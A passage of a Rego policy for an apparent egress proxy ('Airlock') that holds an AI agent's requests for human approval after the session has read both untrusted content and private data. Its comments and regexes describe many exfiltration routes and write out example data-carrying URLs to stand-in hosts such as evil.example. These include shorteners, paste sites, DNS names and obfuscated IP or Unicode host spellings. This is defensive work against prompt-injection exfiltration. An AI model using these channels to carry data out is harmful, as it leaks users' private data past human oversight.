internal_host if regex.match(`^(?:10\.|192\.168\.|172\.(?:1[6-9]|2[0-9]|3[01])\.|169\.254\.|100\.(?:6[4-9]|[7-9][0-9]|1[01][0-9]|12[0-7])\.)[0-9.]+$|^\[?(?:f[cd]|fe[89ab])[0-9a-f]{2}:|\.(?:internal|intranet|corp|lan|home\.arpa|local|private)$`, host)

# ---------------------------------------------------------------------------------------------
# The trifecta: untrusted content and private data in one session, and a way out.

default trifecta_mode := "approve"

trifecta_mode := config.trifecta.mode

trifecta_active if {
	trifecta_labels.untrusted
	trifecta_labels.private
	trifecta_mode != "off"
}

# The labels the trifecta is judged on: the session's, and those of a connection that stays open
# (WebSocket). Its answer brings its labels at the 101, and the socket goes on carrying whatever the
# agent sends after it read that answer: a chat socket (untrusted) opened in a session that holds
# private data, or one that brings both at once (Supabase Realtime), is itself a way out of a
# trifecta session, which no later request would be decided on. (An earlier arrival names the label.)
stream_labels := {label: {"request_id": input.request.id, "host": host} |
	acts_after_reading
	some label in response_labels
}

acts_after_reading if input.request.upgrade

# So does a model call whose provider searches the web for the model: within the one call it reads
# search results (untrusted) beside whatever the call brings (your files by file_search, a stored
# response, the private data in its prompt), and goes on searching and opening pages with queries
# the model writes after reading them. Its own labels count for it (ninth pass: a session that held
# `private`, or a fresh one whose call also searched your files, let it go on as a trusted read).
# A reusable prompt alone is not known to search (its stored tools are unseen): it is held in the
# trifecta, as before, not made one by its own labels.
acts_after_reading if {
	some t in object.get(input, ["service", "params", "search_tools"], [])
	not startswith(t, "prompt:")
}

trifecta_labels := object.union(stream_labels, session_labels)

# A request that only reads: a recognized read, an MCP call that only reads, or a plain read method.
read_like if {
	input.service.effect == "read"
	reads_only_or_service
}

read_like if {
	not input.service
	count(mcp_calls) > 0
	every c in mcp_calls {
		mcp_call_is_read(c)
	}
}

read_like if {
	plain_host_request
	reads_only
}

# Services read with POST (GraphQL queries, inference, read-only SQL): their effect says read.
reads_only_or_service if reads_only

reads_only_or_service if input.service.effect == "read"

# Hosts whose operators are no audience for an attacker: a read's URL and body reach only them.
trusted_sink if {
	input.service.name in object.get(config, ["trifecta", "trusted_services"], [])
	service_enabled
	not shown_to_another_account
}

# A Stripe request made for a connected account (Stripe-Account, Stripe-Context) is logged in that
# account's request logs too ("incoming Connect requests"): whoever runs the account (anyone who
# onboarded onto a Connect platform) reads its path and query string.
shown_to_another_account if {
	input.service.name == "stripe"
	object.get(input.service.params, "stripe_account", "self") != "self"
}

trusted_sink if {
	some p in object.get(config, ["trifecta", "trusted_sinks"], [])
	host_matches(p, host)
	not wildcard_spans_owners(lower(p), host) # `*.workers.dev` names an attacker's host too (below)
	not fetches_elsewhere # a sink that fetches the URL it is given reaches that URL's host (below)
}

# Anything but a read to a trusted sink can carry data out: writes, sends, payments, and any
# request to another host (its path and query string are data too).
carries_data_out if not read_like

carries_data_out if not trusted_sink

# A connection that stays open (WebSocket) is no read, whatever its handshake: what the agent sends
# over it later is not inspected (an OpenAI Realtime `session.update` can name a remote MCP server,
# which the provider then calls with whatever the agent wrote in its URL).
carries_data_out if input.request.upgrade

# A read that runs code Airlock does not see: a PostgREST RPC by GET (Supabase, Neon's Data API)
# runs a database function in a read-only transaction, which still reaches other servers (the http
# extension, dblink) with the arguments the agent chose. (SQL that calls such a function is no read
# already: describe/adapters/sql.ts.)
carries_data_out if input.service.operation == "rpc.call"

# A page of github.com (anything there but git) counts in its repository's traffic, which the
# repository's owner reads: popular content lists the paths viewed, referring sites the referrers.
carries_data_out if {
	input.service.name == "github"
	host == "github.com"
	not startswith(input.service.operation, "git.")
}

# A fetch of a repository others own counts in what its owner reads: git clones and fetches in its
# clone traffic (`/traffic/clones`: how many a day, from how many cloners), a release asset fetched
# through the API in the asset's `download_count` (public on the release). Which of an attacker's
# repositories or assets the agent fetches, and how often, is data (eleventh pass: git was left out
# of the github.com rule above so that clones go on, and the asset count left open).
carries_data_out if {
	input.service.name == "github"
	github_counted_for_owner
	not github_repo_listed("owned_repos")
}

github_counted_for_owner if {
	host == "github.com"
	startswith(input.service.operation, "git.")
}

# A Git LFS file (media.githubusercontent.com, where `raw` links of LFS files lead) is billed to its
# repository's owner as bandwidth, shown per repository in the owner's usage report: how much the
# agent downloads from which repository, a day, is data as a clone count is (twelfth pass).
github_counted_for_owner if host == "media.githubusercontent.com"

github_counted_for_owner if {
	rest := github_repo_rest
	count(rest) > 2
	lower(rest[0]) == "releases"
	lower(rest[1]) == "assets"
	some v in object.get(input.request, ["headers", "accept"], [])
	contains(lower(v), "application/octet-stream")
}

# What the provider searches for, and the pages it opens (OpenAI's open_page, deep research), leave
# through it to hosts nobody allowed.
carries_data_out if provider_searches

# A model call that runs the model's code in an OpenAI container named by id (a code interpreter's
# `container: "cntr_…"`, a hosted shell's `container_reference`): the container keeps the network
# access it was made with (the Containers API's `network_policy`, which a human may have approved
# before the session read anything), and the call does not show it. The code the model writes there
# can send what the call holds to those domains (twenty-seventh pass; a container given network in
# the call itself makes the call a `send`: describe/adapters/openai.ts `containerNetworks`).
carries_data_out if count(object.get(input, ["service", "params", "containers"], [])) > 0

trifecta_hold if {
	trifecta_active
	carries_data_out
	reachable
}

reachable if host_allowed

reachable if browse_allowed

trifecta_because := [trifecta_labels.untrusted.request_id, trifecta_labels.private.request_id]

trifecta_reason := concat("", [
	"this session read untrusted content (request ", trifecta_labels.untrusted.request_id, " to ", trifecta_labels.untrusted.host,
	") and private data (request ", trifecta_labels.private.request_id, " to ", trifecta_labels.private.host,
	"): ", input.request.method, " ", host, " can carry data out, so a human must approve (the lethal trifecta)",
])

verdicts contains approve("session.trifecta", trifecta_reason, "high") if {
	trifecta_hold
	trifecta_mode != "deny"
}

verdicts contains deny("session.trifecta", trifecta_reason, 800) if {
	trifecta_hold
	trifecta_mode == "deny"
}

# ---------------------------------------------------------------------------------------------
# Browsing: a GET with no body to a host no rule allows passes when its exact URL was served in a
# response of this session by a browsing source (config "browse").

default browse_conf := {}

browse_conf := config.browse

browse_candidate if {
	object.get(browse_conf, "enabled", false) == true
	input.request.provenance
	not host_allowed
	count(owning_services) == 0
	not mcp_server
	request_methods == {"GET"}
	input.request.body.size == 0
	not input.request.upgrade
	input.request.scheme in {"http", "https"}
}

browse_source(h) if {
	some p in object.get(browse_conf, "sources", [])
	host_matches(p, h)
}

# An allowed host's pages, unless an entry lets the agent write there: a host that takes the agent's
# POSTs (a paste site, a webhook that shows what it received, a tracker) serves back what the agent
# stored there, `https://evil.example/?d=<data>` written in one request and served as a link by
# the next, which the echo check (one request at a time) cannot see (twelfth pass). `browse.sources`
# still names such a host when wanted.
browse_source(h) if {
	object.get(browse_conf, "from_allowed_hosts", true) == true
	some e in extra_host_entries
	host_matches(entry_host(e), h)
	not agent_writes_to(h)
	not site_takes_writes(h)
	not session_wrote_to(h)
	not service_host(h)
}

# A host a service module owns serves what that service's API let anyone write, the agent included
# (a gist or a file committed through `api.github.com`, served by `gist.githubusercontent.com` or
# `raw.githubusercontent.com` when `allowed_hosts` lists them): no browsing source by being allowed
# (fourteenth pass); `browse.sources` can still name one.
service_host(h) if {
	some name
	data.airlock.services[name].owns_host with input.request.host as h
}

# A store is often written through one host and served by another of its site: a paste's API on
# `api.paste.example` and its pages on `paste.example`, an upload host and its CDN name under one
# domain (fourteenth pass: only the host written to was excluded). So a host is no browsing source
# when an entry lets the agent write to any host of its site, nor once the session wrote to one
# (`written_names` compares sites; a site by the Public Suffix List, host_site).
site_takes_writes(h) if {
	some e in extra_host_entries
	is_object(e)
	some m in object.get(e, "methods", [])
	not upper(m) in read_methods
	host_site(lower(trim_prefix(entry_host(e), "*."))) == host_site(h)
}

# The site of a host (its registrable domain): one label more than the longest public suffix it ends
# in (data.public_suffixes: `paste.example.co.uk`, `attacker.github.io`); an address as it is; a name
# under a suffix the list does not know (`.example`, `.internal`) by its last two labels.
host_site(h) := h if {
	regex.match(`^[0-9.]+$|:`, h)
} else := concat(".", array.slice(parts, min(idx) - 1, count(parts))) if {
	parts := split(trim_suffix(h, "."), ".")
	n := count(parts)
	n >= 2

	# The list's longest rules have seven labels: a longer name's other suffixes need no look-up (each
	# is a scan of its top-level domain's rules; a name of 40 labels in each of 500 values took seconds).
	idx := [j | some j in numbers.range(max([1, n - 8]), n - 1); public_suffix(concat(".", array.slice(parts, j, n)))]
	count(idx) > 0
} else := concat(".", array.slice(parts, count(parts) - 2, count(parts))) if {
	parts := split(trim_suffix(h, "."), ".")
	count(parts) >= 2
} else := h

# A host given as a bare string takes the agent's writes too, once a human approves each; and a GET
# whose URL carries a URL writes as well (a shortener's `api-create.php?url=`, an archive's
# `/save/https://…`, a paste's GET API). What the agent sent there comes back later as a link that
# host serves: `https://evil.example/?d=<data>` stored by one request, served by the next, which the
# echo check (one request at a time) cannot see (thirteenth pass; the twelfth left it open). Such a
# request brings the label `wrote:<host>` (`wrote:.<suffix>` for a `*.` entry), which the proxy
# stores before the request leaves (a write the agent abandons has still reached the host), and the
# session's links served by that host are followed no more. A host `browse.sources` names stays one.
response_labels contains written_label(e) if {
	object.get(browse_conf, "enabled", false) == true
	object.get(browse_conf, "from_allowed_hosts", true) == true
	host_labels_apply # a plain host, a JSON-RPC body to one included (mcp.read passes it without a human)
	extra_host_allowed # before reading the URL for hosts: most plain-host requests are to no such entry
	agent_sends_to_host
	not fetch_served # a served URL the agent sends as it was served stores nothing of the agent's
	some e in matching_extra_hosts
	not named_browse_source(host)
	not agent_writes_to(host) # no browsing source already
}

# A store is written through one site and served through another: a repository pushed through
# api.github.com and published by GitHub Pages at `<owner>.github.io`, a Cloudflare deploy served at
# `*.workers.dev` and `*.pages.dev`, an S3 bucket behind a CloudFront name, a shortener's API and its
# short domain (fourteenth pass: left open; sites were compared, and these are other sites).
# `browse.stores` pairs what takes writes (a service's name, or a host pattern) with the host
# patterns that serve them (`{owner}`: the repository owner a GitHub write names, else any); a
# write there brings `wrote:` for each, so their links are followed no more (fifteenth pass).
response_labels contains concat("", ["wrote:", written_key(k)]) if {
	object.get(browse_conf, "enabled", false) == true
	object.get(browse_conf, "from_allowed_hosts", true) == true
	may_write_store # (before the walk of every store: most requests are reads)
	some st in object.get(browse_conf, "stores", [])
	store_written(st)
	some p in object.get(st, "serves", [])
	is_string(p)
	k := served_written_key(p)
	some e in extra_host_entries # only where an allowed host could serve them (a browsing source)
	names_overlap(trim_prefix(trim_prefix(lower(entry_host(e)), "*"), "."), trim_prefix(k, "."))
}

names_overlap(a, b) if a == b

names_overlap(a, b) if endswith(a, concat("", [".", b]))

names_overlap(a, b) if endswith(b, concat("", [".", a]))

# What store_written needs of the request whatever the store: a service's write, or data sent to a
# host no module describes.
may_write_store if input.service.effect != "read"

may_write_store if {
	not input.service
	agent_sends_to_host
}

store_written(st) if {
	input.service.name == st.writes
	input.service.effect != "read"
}

store_written(st) if {
	not input.service
	host_matches(lower(st.writes), host)
	agent_sends_to_host
}

# `{owner}.github.io` → `acme.github.io` for a write naming `acme`, else `.github.io` (every host
# under it); `*.cloudfront.net` → `.cloudfront.net`; a host as it is.
served_written_key(p) := replace(lower(p), "{owner}", lower(input.service.params.owner)) if {
	contains(p, "{owner}")
	is_string(input.service.params.owner)
	regex.match(`^[A-Za-z0-9-]+$`, input.service.params.owner)
} else := substring(lower(p), indexof(p, "."), -1) if {
	contains(p, "{owner}")
} else := trim_prefix(lower(p), "*")

agent_sends_to_host if not reads_only

agent_sends_to_host if input.request.body.size > 0

agent_sends_to_host if input.request.upgrade # a WebSocket carries what the agent writes after it opens

agent_sends_to_host if agent_carries_url

# A query value or name, or the path, that carries a URL. A scheme anywhere: `https://`, escaped
# `%3A%2F%2F`, and also with a backslash or no slash at all, which URL parsers (WHATWG, Node's, a
# shortener's) read as `https://` (`https:\\evil.example`, `https:evil.example`). Or a host name
# followed by a path, query or fragment without a scheme, at the start of the value or of a word in
# it: `evil.example?d=…`, `//evil.example/c`, `see evil.example/c?d=…` (a paste links it up).
# Fourteenth pass: only `https://` and a value starting `host/` were read, and only values; a
# shortener given `evil.example?d=<data>` (or the URL as a query name) served it back as its own link.
agent_carries_url if {
	some k, vs in object.get(input.request, "query", {})
	some v in array.concat([k], vs)
	some f in parser_forms(v)
	regex.match(url_carrying, f)
}

agent_carries_url if {
	some f in parser_forms(object.get(input.request, "path", ""))
	regex.match(path_url_carrying, f)
}

# A text as a URL parser reads it (sixteenth pass). WHATWG's parser, which fetchers, readers and
# shorteners use, drops ASCII tabs and newlines anywhere in a URL, percent-decodes a host, and maps
# it by IDNA: the code points IDNA ignores (soft hyphen U+00AD, U+034F, U+180B-F, zero-width space
# U+200B, word joiner U+2060, variation selectors, U+FEFF) vanish and the ideographic and fullwidth
# full stops (U+3002, U+FF0E, U+FF61) are dots. `https://noembed.com%2Eevil.com/`, with a tab or a
# soft hyphen before the dot, or `evil。com/c`, named `noembed.com` (the fetcher's own site) or no
# host to the patterns, and the fetcher reached `noembed.com.evil.com`. The patterns read the text
# as written, in this view, and in this view of its percent-decoding (a path is raw, a fetcher may
# decode it first). Only hosts and URL shapes are read from these forms.
parser_forms(t) := {t} if {
	not regex.match(host_view_chars, t) # most texts: nothing a parser would read otherwise
} else := {t} if {
	too_many_views # bounded work: such a request is held whole (below)
} else := {t, v, structure_decoded(v), parser_view(structure_decoded(escapes_decoded(escapes_decoded(v))))} if {
	contains(t, "%")
	v := parser_view(t)
} else := {t, parser_view(t)}

# Escapes of letters, digits, `-`, `.` and `%` itself undone, twice: WHATWG decodes a host's escapes
# before IDNA, and a reader may decode its path (or a fetcher its parameter) once before that, so
# `%65vil.com/c` or a path's `%2565vil.com/c` names evil.com (seventeenth pass: a name with an
# escaped character was no name to the patterns, so a fetcher given one without a scheme reached it).
escapes_decoded(t) := strings.replace_n(unreserved_escapes, t)

unreserved_escapes := object.union(
	{sprintf("%%%02X", [n]): substring(printable_ascii, n - 32, 1) | some n in numbers.range(32, 126); regex.match(`[A-Za-z0-9.%-]`, substring(printable_ascii, n - 32, 1))},
	{sprintf("%%%02x", [n]): substring(printable_ascii, n - 32, 1) | some n in numbers.range(32, 126); regex.match(`[A-Za-z0-9.%-]`, substring(printable_ascii, n - 32, 1))},
)

# The escapes of a URL's structure undone (`%2F`, `%5C`, `%3F`, `%23`, `%40`, `%3A`, `%20`).
structure_decoded(v) := concat("/", regex.split(`%2[fF]`, concat("\\", regex.split(`%5[cC]`, concat("?", regex.split(`%3[fF]`, concat("#", regex.split(`%23`, concat("@", regex.split(`%40`, concat(":", regex.split(`%3[aA]`, concat(" ", regex.split(`%20`, v))))))))))))))

# Two regex passes, whatever the text: every replacement allocates, and an evaluation frees nothing.
parser_view(t) := concat(".", regex.split(host_dots, concat("", regex.split(host_ignored, ascii_width(t)))))

host_view_chars := `[\t\r\n%\x{00AD}\x{034F}\x{180B}-\x{180F}\x{200B}\x{2060}\x{FE00}-\x{FE0F}\x{FEFF}\x{3002}\x{FF01}-\x{FF5E}\x{FF61}]`

# Fullwidth ASCII as ASCII, as IDNA maps it (`０ｘcb007107` is 0xcb007107; seventeenth pass).
ascii_width(t) := strings.replace_n(fullwidth_ascii, t) if regex.match(`[\x{FF01}-\x{FF5E}]`, t)

else := t

fullwidth_ascii := {substring(fullwidth_forms, i, 1): substring(printable_ascii, i + 1, 1) | some i in numbers.range(0, 93)}

fullwidth_forms := "！＂＃＄％＆＇（）＊＋，－．／０１２３４５６７８９：；＜＝＞？＠ＡＢＣＤＥＦＧＨＩＪＫＬＭＮＯＰＱＲＳＴＵＶＷＸＹＺ［＼］＾＿｀ａｂｃｄｅｆｇｈｉｊｋｌｍｎｏｐｑｒｓｔｕｖｗｘｙｚ｛｜｝～"

host_ignored := `[\t\r\n\x{00AD}\x{034F}\x{180B}-\x{180F}\x{200B}\x{2060}\x{FE00}-\x{FE0F}\x{FEFF}]|%(?:09|0[aAdD]|[cC]2%[aA][dD]|[cC][dD]%8[fF]|[eE]2%80%8[bB]|[eE]2%81%[aA]0|[eE][fF]%[bB][bB]%[bB][fF])`

host_dots := `[\x{3002}\x{FF0E}\x{FF61}]|%(?:2[eE]|[eE]3%80%82|[eE][fF]%[bB][cC]%8[eE]|[eE][fF]%[bB][dD]%[aA]1)`

# A path segment that is a host name under a top-level domain the Public Suffix List knows (a reader's
# `/evil.com/…`, an archive's `/web/2024/evil.com`), unless its last label is a common file
# extension that is also a country's domain (`setup.py`, `README.md`, `main.tf`).
agent_carries_url if some h in path_hosts

path_hosts contains h if {
	some seg in object.get(input.request, "segments", [])
	some h in target_hosts(seg)
}

# A text that is a host a fetcher prefixes `https://` to, in any form a URL parser reads as one
# (sixteenth pass: only a bare name was read): a name under a top-level domain of the list, with
# userinfo before it (`docs.python.org@evil.com`: the host is after the last `@`) or a port after it
# (`evil.com:8080`), an IPv4 address in the parser's spellings (`203.0.113.7`, `0xcb.0.0x71.07`,
# `0xcb007107`) or an IPv6 literal (`[2001:db8::1]`), in any of the parser's views of the text. A
# whole number (`3405803783`, which the parser reads as an address too) is not: ids are.
target_hosts(t) := {h |
	regex.match(`[.:%\x{3002}\x{FF01}-\x{FF5E}\x{FF61}]|^\s*(?://|\\\\)?0[xX]`, t) # most segments and values are none
	some f in parser_forms(t)
	some m in array.concat(regex.find_all_string_submatch_n(target_host_re, f, 1), regex.find_all_string_submatch_n(target_address_re, f, 1))
	h := trim_suffix(lower(m[1]), ".")
	target_host_ok(h)
}

# The last label of a name, as a parser may read it: a letter, or any code point beyond ASCII (IDNA
# maps fullwidth `ｃｏｍ`, mathematical `𝐜𝐨𝐦` and circled `ⓒⓞⓜ` letters, a symbol to `com`;
# seventeenth pass: only a letter began one, and only a label the list names counted).
name_tld := `(?:\pL|[^\x00-\x7f])(?:[\pL\pN-]|[^\x00-\x7f])*`

# (A scheme-like word before the host is skipped: images.weserv.nl takes `?url=ssl:evil.example/…`
# for https; seventeenth pass.)
#
# IPv4 as a URL parser reads it (WHATWG, curl, Go): four numbers, decimal, octal (`0313`) or hex
# (`0xcb`); or fewer whose last fills the remaining bytes (`203.0.28935`, `203.29447`,
# `0xcb.0x717107`: 203.0.113.7). A short form reads as a version too (`3.12`, `3.12.1`): it counts
# where a part is hex or its last exceeds a byte (decimal past 255, octal of four digits or more),
# which no version has (seventeenth pass: short forms were no address at all). Numerals beyond ASCII
# (fullwidth `２０３`, mathematical, circled) that IDNA maps to digits count in any form: no
# version is written so.
ipv4_form := concat("|", [
	`(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}`,
	`(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+))?\.(?:0x[0-9a-f]*|0[0-7]{3,}|[1-9][0-9]{3,}|[3-9][0-9]{2}|2[6-9][0-9]|25[6-9])`,
	`0x[0-9a-f]*(?:\.(?:0x[0-9a-f]*|[0-9]+)){1,2}`,
	`[\pN]*[^\x00-\x7f\PN][\pN]*(?:\.[\pN]+)+|(?:[\pN]+\.)+[\pN]*[^\x00-\x7f\PN][\pN]*(?:\.[\pN]+)*`,
])

target_host_re := concat("", [
	`(?is)^\s*(?:[a-z][a-z0-9+.-]*:)?(?://|\\\\)?(?:.*@)?((?:[^\s/\\?#@:<>\[\]^|%.]+\.)+`, name_tld, `\.?|(?:`, ipv4_form, `)\.?)(?::[0-9]*)?(?:[/?#\\].*)?\s*$`,
])

target_address_re := `(?is)^\s*(?://|\\\\)?(?:.*@)?(0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])(?::[0-9]*)?(?:[/?#\\].*)?\s*$`

target_host_ok(h) if regex.match(concat("", [`^(?:`, ipv4_form, `|0x[0-9a-f]+|\[.*\])$`]), h)

target_host_ok(h) if {
	parts := split(h, ".")
	tld := parts[count(parts) - 1]
	public_rule(tld)
	not tld in file_extensions
}

# A last label written in letters IDNA maps to ASCII ones (circled `ⓒⓞⓜ`, parenthesized,
# mathematical `𝐜𝐨𝐦`, enclosed, modifier and subscript letters; fullwidth ones are mapped in the
# parser's view): fails closed. A label in a script of its own (`J.リーグ`, a wiki title) is none.
target_host_ok(h) if {
	parts := split(h, ".")
	count(parts) > 1
	tld := parts[count(parts) - 1]
	regex.match(`[^\x00-\x7f]`, tld)
	regex.match(`^(?:[a-z0-9-]|[\x{1D2C}-\x{1D6A}\x{2071}\x{207F}\x{2090}-\x{209C}\x{249C}-\x{24E9}\x{FF21}-\x{FF3A}\x{FF41}-\x{FF5A}\x{1D400}-\x{1D7FF}\x{1F130}-\x{1F189}])+$`, tld)
}

# A whole number is an address too (`3405803783` is 203.0.113.7 to WHATWG, curl and Go), but ids
# are numbers: read so only where a fetcher's URL begins (a reader's first path segment with more
# after it, `r.jina.ai/3405803783/c?d=…`) and in a value named for a URL (`?url=3405803783/c`,
# `{"url": "3405803783"}`), from eight digits (a smaller number is an address in 0.0.0.0/8, which
# reaches nobody) (seventeenth pass: left open by the sixteenth).
number_hosts(t) := {h |
	some f in parser_forms(t)
	some m in regex.find_all_string_submatch_n(`(?is)^\s*(?://|\\\\)?(?:.*@)?([\pN]{8,}|0x[0-9a-f]+|[0-9]{1,3}(?:\.[0-9]{1,3}){1,2})(?::[0-9]*)?(?:[/?#\\].*)?\s*$`, f, 1)
	h := lower(m[1])
	whole_address(h)
}

# Below 2^32 (a greater number is no address: a 12-digit AWS account id in an SQS queue's path),
# decimal or octal; hex and numerals beyond ASCII (which IDNA maps) whatever their size.
whole_address(h) if {
	regex.match(`^[1-9][0-9]{7,9}$`, h)
	to_number(h) < 4294967296
}

whole_address(h) if regex.match(`^(?:0[0-7]{7,10}|0[0-3][0-7]{10})$`, h)

whole_address(h) if regex.match(`^0x[0-9a-f]+$|[^\x00-\x7f]`, h)

# Two or three decimal parts, each a byte, where a fetcher's URL begins: WHATWG, curl and Go read
# `1.2.4` as 1.2.0.4 and `3.12` as 3.0.0.12, the form a version has (eighteenth pass: a reader's
# `/1.2.4/c?d=…` or `?url=1.2.4/c.png` reached 1.2.0.4, a server an attacker can rent). Only in the
# places number_hosts reads; a version elsewhere in a path or query is none.
whole_address(h) if {
	regex.match(`^[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}$`, h)
	every p in split(h, ".") {
		to_number(p) <= 255
	}
}

# (A short form of two parts with a port, `52.7:8080`, is no version: twentieth pass.)
path_hosts contains h if {
	segs := object.get(input.request, "segments", [])
	count(segs) > 0
	regex.match(`^(?:[\pN]{8,}|[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3})(?::[0-9]*)?$|^[0-9]{1,3}\.[0-9]{1,3}:[0-9]+$`, segs[0])
	more_after_first_segment(segs)
	some h in number_hosts(segs[0])
}

# Something after a path's first segment: another segment, a query, or a slash alone (a reader's
# `/3405803783/` fetches that address's root; twenty-third pass: a random seed found it).
more_after_first_segment(segs) if count(segs) + count(object.get(input.request, "query", {})) > 1

more_after_first_segment(_) if regex.match(`^/[^/?#]+/`, object.get(input.request, "path", ""))

# (Not `image` or `src`, which hold image ids as often.)
url_params := {"url", "urls", "u", "uri", "link", "href", "image_url", "imageurl", "imgurl", "img_url", "page_url"}

# A whole number under a name that says URL (compared without case, `_` or `-`).
named_number_hosts(k, t) := number_hosts(t) if {
	n := trim_suffix(query_key(k), "s")
	some e in ["url", "uri", "link", "href"]
	endswith(n, e)
} else := number_hosts(t) if query_key(k) == "u"

else := set()

query_hosts contains h if {
	some k, vs in object.get(input.request, "query", {})
	query_url_key(k)
	some v in vs
	some h in number_hosts(v)
}

# A parameter with no `=` read as the URL to open (`/json/new?3405803783/c`), a whole number or a
# short form of bytes with a port or path after it (one alone is a cache-busting timestamp as often).
query_hosts contains h if {
	some k, vs in object.get(input.request, "query", {})
	every v in vs {
		v == ""
	}
	regex.match(`(?i)^\s*(?://|\\\\)?(?:[\pN]{8,}|0x[0-9a-f]+|[0-9]{1,3}(?:\.[0-9]{1,3}){1,2})(?::[0-9]+|[/\\])`, k)
	some h in number_hosts(k)
}

# A whole-number or hex address with a port or a path after it, in a value of any name
# (`?q=3405803783/c?d=…`, `?q=3405803783:4111`): a link previewer reads its `q=` as the URL to fetch,
# as it reads a dotted address with a path (nineteenth pass: whole numbers were read in URL-named
# values and bare keys only). A number alone is a number searched for; so is a short form of bytes
# with a path (`?doc=3.12/library`), which is a version as often.
query_hosts contains h if {
	some v in query_values
	regex.match(`(?i)^\s*(?://|\\\\)?(?:[^\s/\\?#]*@)?(?:[\pN]{8,}|0x[0-9a-f]+)(?::[0-9]+|[/\\?#])`, ascii_width(v))
	some h in number_hosts(v)
}

# A short form of bytes with a port (`?q=52.7:8080/c?d=…`, `?q=4111@52.1.7:8080`): no version has a
# port, and a previewer fetches 52.0.0.7 (twentieth pass: only a path after it was weighed, and a
# version has one as often). A time or a ratio (`10.30:45`, `3.12:1`) is none: a port alone below
# 60 counts only with a path after it.
query_hosts contains h if {
	some v in query_values
	regex.match(`(?i)^\s*(?://|\\\\)?(?:[^\s/\\?#]*@)?[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}:(?:[0-9]+[/\\?#]|(?:[6-9][0-9]|[1-9][0-9]{2,})\s*$)`, ascii_width(v))
	some h in number_hosts(v)
}

# A query key as the server reads it: without the brackets or index PHP, Rails and qs read as the
# same parameter (`url[]`, `url[0]`, `url%5B%5D`), without case, `_` or `-` (eighteenth pass:
# `?url[]=3405803783/c` or `?image-url=evil.com` named no URL to fetch, while `?url=` did).
query_key(k) := field_norm(m[1]) if {
	is_string(k)
	some m in regex.find_all_string_submatch_n(`(?is)^(.*?)(?:\[[^\]]*\]|%5b.*?%5d|\.[0-9]+)*$`, k, 1)
} else := field_norm(k)

query_url_key(k) if query_key(k) in {field_norm(p) | some p in url_params}

query_url_key(k) if {
	n := trim_suffix(query_key(k), "s")
	some e in ["url", "uri", "link", "href"]
	endswith(n, e)
}

# A query parameter named for a host (`name=`, `domain=`, `host=`, `target=` …) whose value is a host
# name under a top-level domain of the list: a DNS-over-HTTPS resolver (`dns.google/resolve?name=`),
# a WHOIS, certificate or uptime checker looks that name up, and the name reaches its DNS servers
# (`<data>.evil.com`: DNS as the channel).
agent_carries_url if some h in query_hosts

query_hosts contains h if {
	some k, vs in object.get(input.request, "query", {})
	query_host_key(k)
	some v in vs
	some h in target_hosts(v)
}

query_host_key(k) if query_key(k) in {field_norm(p) | some p in host_params}

query_host_key(k) if query_url_key(k)

# A name ending in `host`, `domain`, `server` … (`?smtp_host=`, `?db-host=`), as in a write's body.
query_host_key(k) if host_field(k)

# A header named for a host (`X-Target-Host`, `X-Upstream-Domain`): a proxy or fetcher that takes
# its target there connects to it (eighteenth pass: only headers named for a URL were read, and a
# host alone is no URL). `Host` itself is the request's own, checked against it elsewhere.
query_hosts contains h if {
	some k, vs in object.get(input.request, "headers", {})
	regex.match(`^(?:x-|.+-)(?:[a-z]+-)*(?:host|hostname|domain|server-name|fqdn)(?:-[a-z]+)*$`, lower(k))
	not startswith(lower(k), "sec-")
	some v in vs
	some h in target_hosts(v)
}

host_params := {
	"name", "host", "hostname", "domain", "domainname", "domain_name", "fqdn", "target", "site", "url", "u",
	"uri", "link", "addr", "address", "server",
}

# RFC 8484's GET carries a whole DNS query, base64url, in `dns=`: a name no pattern can read.
doh_query if {
	some k, vs in object.get(input.request, "query", {})
	lower(k) == "dns"
	some v in vs
	count(v) > 0
}

agent_carries_url if doh_query

fetches_elsewhere if doh_query

file_extensions := {
	"ac", "ai", "am", "as", "cc", "do", "in", "md", "mk", "ml", "mov", "pl", "pm", "ps", "py", "rs", "sc",
	"sh", "so", "st", "tf", "to", "zip",
}

url_carrying := concat("", [
	`(?i)https?(?::|%3a)(?:[/\\\pL\pN\[]|%2f|%5c)|(?:^|[\s(<>"'=,;|*\[@])(?://|\\\\|%2f%2f|%5c%5c)?(?:[^\s/\\?#@:<>\[\]^|%.]+(?:\.[^\s/\\?#@:<>\[\]^|%.]+)*\.`,
	name_tld, `\.?|`, ipv4_form, `|0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`,
])

path_url_carrying := `(?i)https?(?::|%3a)(?:[/\\a-z0-9\[%]|%2f|%5c)|/(?:/|%2f)[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]`

# A label name is at most 64 characters: a longer host keeps its end (a shorter suffix matches more
# hosts, which fails closed). Brackets of an IPv6 literal are no label characters.
written_label(e) := concat("", ["wrote:", written_key(replace(replace(trim_prefix(lower(entry_host(e)), "*"), "[", ""), "]", ""))])

written_key(h) := substring(h, count(h) - 58, -1) if count(h) > 58

written_key(h) := h if count(h) <= 58

session_wrote_to(h) if {
	some l, _ in session_labels
	startswith(l, "wrote:")
	written_names(substring(l, 6, -1), replace(replace(h, "[", ""), "]", ""))
}

written_names(k, h) if k == h

written_names(k, h) if {
	startswith(k, ".")
	endswith(h, k)
}

written_names(k, h) if {
	count(k) == 58
	endswith(h, k)
}

# Another host of the site written to serves what was stored there too (site_takes_writes).
written_names(k, h) if host_site(trim_prefix(k, ".")) == host_site(h)

named_browse_source(h) if {
	some p in object.get(browse_conf, "sources", [])
	host_matches(p, h)
}

agent_writes_to(h) if {
	some e in extra_host_entries
	is_object(e)
	host_matches(entry_host(e), h)
	some m in object.get(e, "methods", [])
	not upper(m) in read_methods
}

browse_allowed if {
	browse_candidate
	input.request.provenance.seen == true
	browse_source(input.request.provenance.host)
}

verdicts contains allow("browse.link", concat("", [
	"GET of a link served by ", input.request.provenance.host, " (request ", input.request.provenance.request_id,
	") exactly as served",
])) if {
	browse_allowed
}

verdicts contains deny(
	"browse.unseen", concat("", [
		host, " is not an allowed host, and this exact URL was not in any response this session received: ",
		"Airlock follows links only exactly as a response served them (a changed character, an added query ",
